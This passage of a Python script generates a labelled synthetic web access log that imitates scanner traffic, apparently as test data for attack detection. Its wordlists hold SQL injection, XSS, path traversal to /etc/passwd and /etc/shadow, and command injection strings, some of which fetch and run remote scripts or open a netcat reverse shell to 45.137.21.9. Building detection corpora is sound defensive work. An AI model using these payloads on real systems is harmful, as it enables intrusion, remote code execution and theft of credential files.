        if family in ("rfi", "traversal"):
            path, name = params[2 + k % 2]
        else:
            path, name = params[k % 2]
        c.add("acunetix", family, True, f"{path}?{name}={acu_enc(payload)}")
    for family, target, encoding in ACU_PATH:
        sent = acu_enc(target).replace("%2F", "/") if encoding == "acu" else raw(target)
        c.add("acunetix", family, True, sent, status=c.rng.choice([404, 400, 200]))
    for family, where, value in ACU_HEADER:
        if where == "ua":
            c.add("acunetix", family, True, "/", ua=raw(value))
        else:
            c.add("acunetix", family, True, "/", referrer=raw(value))


# ---------------------------------------------------------------------------------------------
# wfuzz: a parameter fuzzed with injection wordlists, sent raw; its own user agent
# ---------------------------------------------------------------------------------------------

WFUZZ_SQL = [
    ("sqli", "' or 1=1--"), ("sqli", "' or 'a'='a"), ("sqli", "\") or (\"a\"=\"a"),
    ("sqli", "hi' or 1=1 --"), ("sqli", "' union select * from users--"),
    ("sqli", "x' AND userid IS NULL; --"), ("sqli", "1;(load_file(char(47,101,116,99,47,112,97,115,115,119,100))),1,1,1;"),
    ("sqli", "%27%20or%201=1"), ("sqli", "admin'--"), ("sqli", "' having 1=1--"),
    ("sqli", "'; exec master..xp_cmdshell 'ping 10.10.1.2'--"), ("sqli", "1 or sleep(5)#"),
    ("sqli", "' or benchmark(10000000,MD5(1))#"), ("sqli", "1 and ascii(substring((select database()),1,1))>64"),
    ("sqli", "0x3a3a3a3a UNION SELECT 0x6164d696e,0x70617373"),
]
WFUZZ_XSS = [
    "<script>alert('XSS')</script>", "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>", "<BODY ONLOAD=alert('XSS')>",
    "<svg/onload=alert(1)>", "<details open ontoggle=alert(1)>", "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "\"><img src=x onerror=alert(String.fromCharCode(88,83,83))>",
    "<input autofocus onfocus=alert(1)>",
]
WFUZZ_TRAVERSAL = [
    "/../../../../../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%af..%c0%afetc/passwd",
    "....//....//....//etc/passwd", "..\\..\\..\\..\\boot.ini", "..%5c..%5c..%5cboot.ini",
    "%252e%252e%252fetc%252fpasswd", "..%255c..%255c..%255cwindows%255cwin.ini",
    "/%2e%2e/%2e%2e/%2e%2e/etc/shadow", "..%u2216..%u2216..%u2216windows%u2216win.ini",
    "%uff0e%uff0e/%uff0e%uff0e/etc/passwd", "..;/..;/..;/WEB-INF/web.xml",
]
WFUZZ_CMD = ["|id", ";id", ";id;", "|wget http://45.137.21.9/a.sh", ";uname -a", "`id`",
             "$(id)", "&& whoami", "| nc -e /bin/sh 45.137.21.9 4444", ";${IFS}cat${IFS}/etc/passwd",
             "|busybox wget http://45.137.21.9/b", "; curl http://45.137.21.9/c.sh | sh"]
WFUZZ_PROBES = ["'", "\"", "#", "-", "--", "test", "admin", "1"]


def wfuzz_enc(payload: str) -> str:
    """wfuzz sends the wordlist entry as it is; its HTTP library escapes spaces only."""
    return raw(payload).replace(" ", "%20")


def wfuzz(c: Corpus) -> None:
    for probe in WFUZZ_PROBES:
        c.add("wfuzz", "probe", False, f"/fr/actualites/article.php?id={wfuzz_enc(probe)}")
    for family, payload in WFUZZ_SQL:
        c.add("wfuzz", family, True, f"/fr/actualites/article.php?id={wfuzz_enc(payload)}")
    for payload in WFUZZ_XSS:
        c.add("wfuzz", "xss", True, f"/recherche?q={wfuzz_enc(payload)}")
    for payload in WFUZZ_TRAVERSAL:
        c.add("wfuzz", "traversal", True, f"/download.php?file={wfuzz_enc(payload)}")
    for payload in WFUZZ_CMD:
        c.add("wfuzz", "cmdi", True, f"/outils/ping.php?host=127.0.0.1{wfuzz_enc(payload)}")


def build() -> Corpus:
    corpus = Corpus()
    for tool in (nikto, sqlmap, nuclei, zap, acunetix, wfuzz):
        tool(corpus)
    return corpus


def render(corpus: Corpus) -> tuple[str, str]:
    """The access log and the labels as file contents."""
    log = "".join(line + "\n" for line in corpus.lines)
    labels = "".join(json.dumps(label, sort_keys=True) + "\n" for label in corpus.labels)
    return log, labels


def main() -> None:
    log, labels = render(build())
    HERE.mkdir(parents=True, exist_ok=True)
    (HERE / "access.log").write_text(log, encoding="utf-8")
    (HERE / "labels.jsonl").write_text(labels, encoding="utf-8")
    print(f"wrote {log.count(chr(10))} lines to {HERE}")


if __name__ == "__main__":
    main()
